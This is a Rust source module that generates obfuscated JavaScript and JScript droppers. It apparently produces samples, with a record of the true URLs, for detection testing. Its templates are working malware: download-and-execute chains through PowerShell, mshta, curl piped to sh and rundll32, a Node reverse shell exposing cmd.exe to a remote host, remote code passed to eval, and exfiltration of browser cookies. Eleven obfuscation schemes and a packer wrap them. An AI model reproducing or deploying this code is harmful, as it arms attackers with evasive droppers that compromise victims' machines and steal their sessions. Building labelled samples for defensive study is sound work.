//! Droppers in JScript and JavaScript, in the manners of public obfuscators and packers.

use crate::generator::{Dice, Truth, base64, each, hex, put, quoted, rc4};
use std::fmt::Write;

const FILES: &[&str] = &[".exe", ".dll", ".png", ".bin", ".php", ""];

/// Letters that the words for nothing, true and false have.
fn coerced(letter: char) -> Option<&'static str> {
    Some(match letter {
        'f' => "(![]+[])[+[]]",
        'a' => "(![]+[])[+!+[]]",
        'l' => "(![]+[])[!+[]+!+[]]",
        's' => "(![]+[])[!+[]+!+[]+!+[]]",
        't' => "(!![]+[])[+[]]",
        'r' => "(!![]+[])[+!+[]]",
        'u' => "(!![]+[])[!+[]+!+[]]",
        'e' => "(!![]+[])[!+[]+!+[]+!+[]]",
        'n' => "([][[]]+[])[+!+[]]",
        'd' => "([][[]]+[])[!+[]+!+[]]",
        'i' => "([![]]+[][[]])[+!+[]+[+[]]]",
        'o' => "({}+[])[+!+[]]",
        'b' => "({}+[])[!+[]+!+[]]",
        'c' => "({}+[])[!+[]+!+[]+!+[]+!+[]+!+[]]",
        '0' => "(+[]+[])",
        '1' => "(+!+[]+[])",
        '2' => "(!+[]+!+[]+[])",
        _ => return None,
    })
}

/// An expression of which `text` is the value; `before` gets what must stand in front of it.
pub(super) fn hide(dice: &mut Dice, text: &str, before: &mut String) -> String {
    let name = dice.name();
    let other = dice.name();
    match dice.below(11) {
        0 => {
            // A table in functions that replace themselves, turned until a sum is right.
            let (one, two, three) =
                (1000 + dice.below(9000), 2 + dice.below(90), 3 + dice.below(90));
            let pieces = dice.pieces(text);
            let mut words = vec![
                format!("{one}{other}"),
                format!("{}KqZ", two * 2),
                format!("{}abX", three * 3),
                "log".to_owned(),
            ];
            let first = words.len();
            words.extend(pieces.iter().cloned());
            let target = one + two * three;
            let base = 0x80 + dice.below(300);
            let turn = dice.below(words.len());
            let list: Vec<String> = (0..words.len())
                .map(|at| format!("'{}'", words[(at + words.len() - turn) % words.len()]))
                .collect();
            let _ = writeln!(
                before,
                "function _0x{name}(){{var _0xa=[{}];_0x{name}=function(){{return _0xa;}};return _0x{name}();}}function _0x{other}(_0xi,_0xk){{var _0xt=_0x{name}();return _0x{other}=function(_0xn,_0xm){{_0xn=_0xn-0x{base:x};var _0xv=_0xt[_0xn];return _0xv;}},_0x{other}(_0xi,_0xk);}}(function(_0xf,_0xg){{var _0xh=_0x{other},_0xj=_0xf();while(!![]){{try{{var _0xs=parseInt(_0xh(0x{base:x}))/0x1+parseInt(_0xh(0x{:x}))/0x2*(parseInt(_0xh(0x{:x}))/0x3);if(_0xs===_0xg)break;else _0xj['push'](_0xj['shift']());}}catch(_0xe){{_0xj['push'](_0xj['shift']());}}}}}}(_0x{name},0x{target:x}));",
                list.join(","),
                base + 1,
                base + 2
            );
            let words: Vec<String> = (0..pieces.len())
                .map(|at| format!("_0x{other}(0x{:x})", base + first + at))
                .collect();
            words.join("+")
        }
        1 => {
            let words: Vec<String> = text
                .chars()
                .map(|letter| match coerced(letter) {
                    Some(word) => word.to_owned(),
                    None => format!("'{letter}'"),
                })
                .collect();
            words.join("+")
        }
        2 => {
            // Words as numbers to the base of 36.
            let mut words = Vec::new();
            let mut rest = text;
            while !rest.is_empty() {
                let end =
                    rest.find(|it: char| !it.is_ascii_lowercase()).unwrap_or(rest.len()).min(8);
                if end == 0 {
                    let (letter, tail) = rest.split_at(1);
                    words.push(format!("'{letter}'"));
                    rest = tail;
                } else {
                    let (word, tail) = rest.split_at(end);
                    let number = u64::from_str_radix(word, 36).expect("letters are digits of 36");
                    words.push(format!("({number}).toString(36)"));
                    rest = tail;
                }
            }
            words.join("+")
        }
        3 => {
            let list = each(text, " ", |it| format!("{it:b}"));
            let _ = writeln!(
                before,
                "var {name} = '{list}'.split(' ');\nfor (var {other} = '', n = 0; n < {name}.length; n++) {other} += String.fromCharCode(parseInt({name}[n], 2));"
            );
            other
        }
        4 => {
            let key = dice.name();
            let escaped: String =
                rc4(text.as_bytes(), &key).iter().map(|it| format!("%{it:02X}")).collect();
            let _ = writeln!(
                before,
                "function {name}(str, key) {{\n  var s = [], j = 0, x, res = '';\n  for (var i = 0; i < 256; i++) {{ s[i] = i; }}\n  for (i = 0; i < 256; i++) {{\n    j = (j + s[i] + key.charCodeAt(i % key.length)) % 256;\n    x = s[i]; s[i] = s[j]; s[j] = x;\n  }}\n  i = 0; j = 0;\n  for (var y = 0; y < str.length; y++) {{\n    i = (i + 1) % 256; j = (j + s[i]) % 256;\n    x = s[i]; s[i] = s[j]; s[j] = x;\n    res += String.fromCharCode(str.charCodeAt(y) ^ s[(s[i] + s[j]) % 256]);\n  }}\n  return res;\n}}"
            );
            format!("{name}(unescape('{escaped}'), '{key}')")
        }
        5 => format!(
            "'{}'.replace(/(..)/g, function ({name}, {other}) {{ return String.fromCharCode(parseInt({other}, 16)); }})",
            hex(text.as_bytes())
        ),
        6 => {
            // The order of the steps is in a text.
            let pieces = dice.pieces(text);
            let order = dice.order(pieces.len());
            let steps: Vec<String> = (0..pieces.len())
                .map(|at| order.iter().position(|it| *it == at).unwrap_or_default().to_string())
                .collect();
            let cases: String = order
                .iter()
                .enumerate()
                .map(|(label, at)| {
                    format!("case '{label}': {name} += '{}'; continue;\n", pieces[*at])
                })
                .collect();
            let _ = writeln!(
                before,
                "var {name} = '', {other} = '{}'['split']('|'), i{other} = 0x0;\nwhile (!![]) {{\n  switch ({other}[i{other}++]) {{\n{cases}  }}\n  break;\n}}",
                steps.join("|")
            );
            name
        }
        7 => {
            let key = dice.key();
            let list = each(text, ",", |it| format!("0x{:x}", u32::from(it) * 2 + u32::from(key)));
            format!(
                "[{list}].map(function (c) {{ return String['fromCharCode']((c - {key}) / 2); }}).reduce(function (a, b) {{ return a + b; }}, '')"
            )
        }
        8 => format!("decodeURIComponent('{}')", each(text, "", |it| format!("%{it:02x}"))),
        9 => {
            // A table with letters of its own, as the newer obfuscators encode it.
            let code = base64(text.as_bytes());
            let swapped: String = code
                .chars()
                .map(|it| {
                    if it.is_ascii_lowercase() {
                        it.to_ascii_uppercase()
                    } else {
                        it.to_ascii_lowercase()
                    }
                })
                .collect();
            let _ = writeln!(
                before,
                "var {name} = function (m) {{ var n = 'abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789+/='; var o = '', p = ''; for (var q = 0x0, r, s, t = 0x0; s = m['charAt'](t++); ~s && (r = q % 0x4 ? r * 0x40 + s : s, q++ % 0x4) ? o += String['fromCharCode'](0xff & r >> (-0x2 * q & 0x6)) : 0x0) {{ s = n['indexOf'](s); }} for (var u = 0x0, v = o['length']; u < v; u++) {{ p += '%' + ('00' + o['charCodeAt'](u)['toString'](0x10))['slice'](-0x2); }} return decodeURIComponent(p); }};"
            );
            format!("{name}('{}')", swapped.trim_end_matches('='))
        }
        _ => {
            let words = quoted(&dice.pieces(text), '\'').join(", ");
            let _ = writeln!(
                before,
                "var {name} = (function () {{ var {other} = Array.prototype.slice.call(arguments); return function () {{ return {other}.join(''); }}; }})({words});"
            );
            format!("{name}()")
        }
    }
}

/// Dean Edwards' packer: each word is a number, and a list tells which.
fn packed(text: &str) -> String {
    let code = |mut number: usize| -> String {
        const DIGITS: &[u8; 62] = b"0123456789abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ";
        let mut out = String::new();
        loop {
            out.insert(0, char::from(DIGITS[number % 62]));
            number /= 62;
            if number == 0 {
                return out;
            }
        }
    };
    let is_word = |it: char| it.is_ascii_alphanumeric() || it == '_';
    let mut words: Vec<String> = Vec::new();
    let mut out = String::new();
    let mut word = String::new();
    for letter in text.chars().chain(['\n']) {
        if is_word(letter) {
            word.push(letter);
            continue;
        }
        if !word.is_empty() {
            let at = words.iter().position(|it| *it == word).unwrap_or_else(|| {
                words.push(word.clone());
                words.len() - 1
            });
            out.push_str(&code(at));
            word.clear();
        }
        match letter {
            '\\' => out.push_str("\\\\"),
            '\'' => out.push_str("\\'"),
            '\n' => out.push_str("\\n"),
            other => out.push(other),
        }
    }
    format!(
        "eval(function(p,a,c,k,e,d){{e=function(c){{return(c<a?'':e(parseInt(c/a)))+((c=c%a)>35?String.fromCharCode(c+29):c.toString(36))}};if(!''.replace(/^/,String)){{while(c--){{d[e(c)]=k[c]||e(c)}}k=[function(e){{return d[e]}}];e=function(){{return'\\\\w+'}};c=1}};while(c--){{if(k[c]){{p=p.replace(new RegExp('\\\\b'+e(c)+'\\\\b','g'),k[c])}}}}return p}}('{out}',62,{},'{}'.split('|'),0,{{}}))\n",
        words.len(),
        words.join("|")
    )
}

pub(super) fn dropper(dice: &mut Dice, truth: &mut Truth) -> String {
    let mut before = String::new();
    let line = delivery(dice, truth, &mut before);
    let text = format!("{before}{line}");
    match dice.below(7) {
        0 => packed(&text),
        1 => format!(
            "var {0} = '{1}';\nvar f{0} = (function () {{}})['constructor'];\nf{0}(unescape({0}.replace(/../g, '%$&')))();\n",
            dice.name(),
            hex(text.as_bytes())
        ),
        2 => format!(";(function (w, d) {{\n  'use strict';\n{text}}}).call(this, this);\n")
            .replace("  'use strict';\n", ""),
        _ => text,
    }
}

fn delivery(dice: &mut Dice, truth: &mut Truth, before: &mut String) -> String {
    let file = dice.name();
    let var = dice.name();
    match dice.below(13) {
        0 => {
            let (host, port) = (dice.host(), dice.port());
            truth.urls.insert(format!("https://{host}:{port}/{file}"));
            put(
                "const https = require('https'), cp = require('child_process');\nconst opts = { hostname: @U@, port: @P@, path: '/@F@', method: 'GET', rejectUnauthorized: false };\nconst req = https.request(opts, res => {\n  const chunks = [];\n  res.on('data', c => chunks.push(c));\n  res.on('end', () => { require('fs').writeFileSync('/tmp/@F@', Buffer.concat(chunks)); cp.spawn('/tmp/@F@', [], { detached: true }).unref(); });\n});\nreq.on('error', () => {});\nreq.end();\n",
                &[("U", &hide(dice, &host, before)), ("P", &port.to_string()), ("F", &file)],
            )
        }
        1 => {
            let (host, port) = truth.endpoint(dice);
            put(
                "var n = require('net'), s = require('child_process').spawn;\nvar @V@ = @U@;\n(function c() {\n  var k = n.connect({ port: @P@, host: @V@ }, function () {\n    var sh = s('cmd.exe', []);\n    k.pipe(sh.stdin); sh.stdout.pipe(k); sh.stderr.pipe(k);\n  });\n  k.on('error', function () { setTimeout(c, 5000); });\n})();\n",
                &[("U", &hide(dice, &host, before)), ("P", &port.to_string()), ("V", &var)],
            )
        }
        _ => {
            let url = truth.url(dice, FILES);
            let word = hide(dice, &url, before);
            let template = dice.pick(&[
                "GetObject('script:' + @U@);\n",
                "var @V@ = WScript['Create' + 'Object']('WScr' + 'ipt.Shell');\n@V@['Exec']('mshta ' + (@U@));\n",
                "require('child_process').execSync('powershell -w hidden -c \"iwr ' + (@U@) + ' -OutFile $env:TEMP\\\\@F@.exe; start $env:TEMP\\\\@F@.exe\"', { windowsHide: true });\n",
                "const { spawn } = require('node:child_process');\nconst p = spawn('curl', ['-s', '-L', @U@, '-o', '/tmp/@F@']);\np.on('close', () => spawn('sh', ['/tmp/@F@'], { stdio: 'ignore', detached: true }));\n",
                "const axios = require('axios');\n(async () => {\n  try {\n    const r = await axios.get(@U@, { headers: { 'x-secret-header': 'secret' } });\n    new Function('require', r.data)(require);\n  } catch (e) {\n  }\n})();\n",
                "navigator.sendBeacon(@U@, JSON.stringify({ c: document.cookie, l: location.href }));\n",
                "new Image().src = @U@;\n",
                "var @V@ = @U@;\nsetTimeout(function () { window.top.location.replace(@V@); }, 500);\n",
                "$.getScript(@U@);\nvar jQueryVersion = typeof $;\nfunction @V@() { return document.title; }\n",
                "var a = new ActiveXObject('Scripting.FileSystemObject'), b = a.GetSpecialFolder(2) + '\\\\@F@.cmd', c = a.OpenTextFile(b, 2, true);\nc.WriteLine('@echo off');\nc.WriteLine('curl -k -o %TEMP%\\\\@F@.dll ' + (@U@));\nc.WriteLine('rundll32 %TEMP%\\\\@F@.dll,Main');\nc.Close();\nWScript.CreateObject('WScript.Shell').Run('cmd /c \"' + b + '\"', 0, 0);\n",
                "var wsh = new ActiveXObject(\"WScript.Shell\"), objs = ['MSXML2.ServerXMLHTTP.6.0', 'MSXML2.XMLHTTP'], x = null;\nfor (var o in objs) { try { x = new ActiveXObject(objs[o]); break; } catch (err) { continue; } }\nx['o' + 'p' + 'e' + 'n']('G' + 'ET', @U@, !1);\nx['setRequestHeader']('User-Agent', 'Mozilla/4.0');\nx['send']();\nif (x['status'] == 0xc8 && x.responseText.length > 0) { eval(x['responseText']); }\n",
                "const @V@ = async (u) => { const r = await fetch(u, { method: 'POST', body: new URLSearchParams({ h: require('os').hostname() }) }); return r.text(); };\n@V@(@U@).then(t => { (0, eval)(t); }).catch(console.error);\n",
            ]);
            put(template, &[("U", &word), ("F", &file), ("V", &var)])
        }
    }
}
